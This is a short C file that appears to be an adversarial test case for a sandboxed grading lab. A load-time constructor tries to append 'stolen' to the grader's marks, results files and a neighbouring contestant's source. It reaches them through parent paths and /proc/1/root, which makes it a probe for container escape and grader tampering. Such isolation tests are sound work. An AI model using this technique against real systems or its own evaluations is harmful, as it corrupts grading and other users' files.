/* writes-marks - changes the marks, and the neighbour's program
 *
 * Tries: to write into the marks and the neighbour's source by path, upwards and through /proc/PID/root
 * Holds: nothing of the grader's is mounted in the container but what it needs, read-only
 * Mark: 100
 * Goal: grep -q stolen /scene/marks && grep -q stolen /scene/neighbour/capdrop.c
 * Honest: yes */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

static void __attribute__((constructor)) attack(void)
{
	static const char *const roots[] = {
		"", "..", "../..", "../../..", "../../../../..", "/proc/1/root", "/proc/1/cwd", "/proc/2/root", "/tmp", "/root",
	};
	static const char *const files[] = { "marks", "neighbour/capdrop.c", "results.json", "whole.json" };
	const char *scene = getenv("LAB_SCENE") ? getenv("LAB_SCENE") : "/scene";

	for (size_t i = 0; i < sizeof roots / sizeof *roots; i++)
		for (size_t j = 0; j < sizeof files / sizeof *files; j++)
			for (int way = 0; way < 2; way++) {
				char path[512];
				int fd;

				if (snprintf(path, sizeof path, "%s%s/%s", roots[i], way ? scene : "", files[j]) >= (int)sizeof path)
					continue;
				fd = open(path, O_WRONLY | O_APPEND | O_NONBLOCK);
				if (fd < 0)
					continue;
				if (write(fd, "stolen\n", 7) < 0)
					way = 2;
				close(fd);
			}
}
